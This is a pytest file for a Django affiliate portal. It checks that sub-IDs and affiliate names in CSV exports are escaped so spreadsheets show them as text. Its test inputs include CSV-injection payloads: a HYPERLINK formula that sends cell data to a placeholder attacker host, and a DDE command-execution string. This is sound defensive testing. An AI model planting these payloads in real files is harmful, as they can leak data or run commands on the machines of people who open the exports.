"""Every CSV the portal writes is safe to open in a spreadsheet (OWASP's CSV-injection rule)."""

import csv
import io
from datetime import date, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from attribution.models import Click
from payouts import runs
from portal.lib.spreadsheet import safe_cell
from tests.attribution.test_crediting import af_install, click
from tests.conftest import staff_login
from tests.factories import AffiliateFactory, CampaignFactory, UserFactory
from tests.payouts.helpers import convert, plan

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_shown_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["tiktok", "", "12.50", "-12.50", "+3", "-7", 42, None])
def test_plain_text_and_numbers_are_left_alone(value):
    assert safe_cell(value) == value


def _rows(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.django_db
def test_a_sub_id_formula_reaches_the_affiliates_breakdown_csv_as_text(
    client, alice, campaign, appsflyer
):
    # given clicks whose sub1 is a formula, chosen by whoever built the link
    now = timezone.now()
    for n, sub1 in enumerate(FORMULAS):
        made = click(
            client, alice, campaign, at=now - timedelta(hours=2), sub1=sub1, ip=f"198.51.100.{n}"
        )
        af_install(
            client,
            appsflyer,
            at=now - timedelta(hours=1),
            click_id=made.click_id,
            afid=f"af-{n}",
            idfa=f"00000000-0000-4000-8000-00000000000{n + 1}",
        )
    stored = set(Click.objects.values_list("sub1", flat=True))

    # when alice exports the breakdown by sub1
    client.force_login(alice.user)
    rows = _rows(
        client.get(
            reverse("affiliate-dashboard"), {"period": "last7", "export": "breakdown", "by": "sub1"}
        )
    )

    # then no cell starts a formula
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert {row[0] for row in rows[1:]} == {"'" + s for s in stored}


@pytest.mark.django_db
def test_an_affiliate_name_formula_reaches_the_managers_payout_csv_as_text(client, manager):
    # given an affiliate who signed up with a formula for a name, and a payout run that pays it
    mallory = AffiliateFactory(user=UserFactory(username="mallory"), name='=HYPERLINK("x")')
    campaign = CampaignFactory()
    plan(campaign, cpa={"ftd": "75.00"})
    convert(mallory, campaign, player="m")
    run = runs.payout_run_create(period_start=date(2026, 10, 1), period_end=date(2026, 10, 31))
    runs.payout_run_execute(run_id=run.pk)

    # when a manager exports the run
    staff_login(client, manager)
    response = client.post(
        reverse("admin:payouts_payoutrun_changelist"),
        {"action": "export_csv", "_selected_action": [run.pk]},
    )

    # then the name is text
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(r["affiliate"], r["amount"]) for r in rows] == [('\'=HYPERLINK("x")', "75.00")]
